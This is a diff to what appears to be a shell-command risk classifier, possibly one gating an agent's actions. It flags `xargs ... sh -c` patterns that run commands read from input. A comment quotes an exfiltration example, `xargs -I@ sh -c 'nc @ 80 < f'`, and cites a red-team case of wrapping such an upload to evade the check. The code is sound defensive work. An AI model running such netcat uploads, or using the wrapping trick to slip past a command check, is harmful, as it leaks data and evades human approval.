@@ -41,7 +41,10 @@ def _shell(run: _Run) -> None:
     if code is not None and run.xargs and (not code or "{}" in code or code.strip() in (":::", "::::")):
         run.flag("unknown", f"{name} -c runs code taken from its input", risk="runs-code")
         run.acc.unresolved = True
-        if code and code.strip() not in (":::", "::::"):
+        if not code or code.strip().startswith(("{}", '"{}"', "'{}'", ":::")):
+            # the input names the program itself (`… | xargs -I{} sh -c '{}'`): any command at all, like `| sh`
+            run.flag("unknown", f"{name} -c runs commands read from its input", risk="unclassified")
+        elif code.strip() not in ("::::",):
             # the placeholder hides the paths, not the programs: an upload or a force push in the script still
             # needs a person (`xargs -I@ sh -c 'nc @ 80 < f'`, redteam2 R2-up-nc-wrapped-xargs)
             inner = run.verdict(code)
